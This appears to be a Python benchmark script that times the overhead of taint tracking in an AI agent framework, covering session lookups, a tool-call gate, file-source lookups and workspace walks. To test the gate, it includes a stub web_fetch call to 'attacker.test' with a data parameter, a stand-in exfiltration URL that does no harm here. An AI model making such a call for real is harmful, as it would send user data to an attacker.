"""What taint tracking (tools/taint.py) costs a turn.

A turn pays, whatever it reads: one look in state.db for an earlier tainted turn of its chat
(`SessionStore.tainted_by`, at the start; a partial index holds only tainted turns' rows),
and per tool call the gate's question (`agent/turns/taint_gate.question`, no I/O). A
file_read pays one look in `file_sources`. A shell command in a tainted turn pays a walk of
the workspace for what it wrote (`written_since`), the one cost that grows with the
workspace. Each is timed here on its own, on a state.db holding two chats of `--turns`
turns, and on workspaces of 1,000 and 10,000 files.

    .venv/bin/python bench/taint.py [--turns 2000] [--runs 500]
"""

from __future__ import annotations

import argparse
import asyncio
import statistics
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from agent.app import open_store
from agent.durable.file_sources import FileSources
from agent.turns.taint_gate import question
from tools.base import FunctionTool, ToolCallContext, ToolResult
from tools.taint import Taint, written_since


async def timed(label: str, runs: int, work: Callable[[], Awaitable[object]]) -> None:
    took = []
    for _ in range(runs):
        started = time.perf_counter()
        await work()
        took.append((time.perf_counter() - started) * 1000)
    took.sort()
    p99 = took[min(len(took) - 1, int(len(took) * 0.99))]
    print(f"{label:58} p50 {statistics.median(took):8.3f} ms   p99 {p99:8.3f} ms")


async def fetch(call: ToolCallContext, url: str) -> ToolResult:
    """Fetch.

    Args:
        url: The address.
    """
    return ToolResult.success("")


async def main(turns: int, runs: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        store = await open_store(root / "state.db")
        turn = [{"role": "user", "content": "hello " * 40}, {"role": "assistant", "content": "ok"}]
        for n in range(turns):
            taint = "after reading example.org/page" if n == turns // 2 else ""
            await store.sessions.append_turn("telegram:42:", turn, tainted_by=taint)
        for _ in range(turns):
            await store.sessions.append_turn("telegram:43:", turn)
        print(f"state.db with two chats of {turns} turns (one tainted turn half-way in one):")
        await timed(
            "tainted_by: a chat with a tainted turn",
            runs,
            lambda: store.sessions.tainted_by("telegram:42:"),
        )
        await timed(
            "tainted_by: a chat with none",
            runs,
            lambda: store.sessions.tainted_by("telegram:43:"),
        )
        web_fetch = FunctionTool(fetch, name="web_fetch")
        taint = Taint()
        taint.read("example.org/page")
        call = ToolCallContext(root, taint=taint)
        args = {"url": "http://attacker.test/?d=notes"}

        async def ask() -> object:
            return question(web_fetch, args, call)

        await timed("the gate's question for one call (no I/O)", runs, ask)
        workspace = root / "workspace"
        sources = FileSources(store.db, workspace)
        for count in (1_000, 10_000):
            for n in range(count):
                folder_n = workspace / f"d{n // 100}"
                folder_n.mkdir(parents=True, exist_ok=True)
                (folder_n / f"f{n}.txt").write_text("x")
            since = time.time() + 60  # nothing is that new: the walk looks at every file
            await sources.record([workspace / "d0" / "f0.txt"], "after reading example.org/p")
            await timed(
                f"file_sources.source_of, one file ({count:,} in the workspace)",
                runs,
                lambda: sources.source_of(workspace / "d0" / "f0.txt"),
            )

            async def walk(since: float = since) -> object:
                return await asyncio.to_thread(written_since, workspace, since)

            await timed(
                f"written_since after a tainted command ({count:,} files)", max(runs // 10, 5), walk
            )
        await store.db.close()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--turns", type=int, default=2_000)
    parser.add_argument("--runs", type=int, default=500)
    options = parser.parse_args()
    asyncio.run(main(options.turns, options.runs))
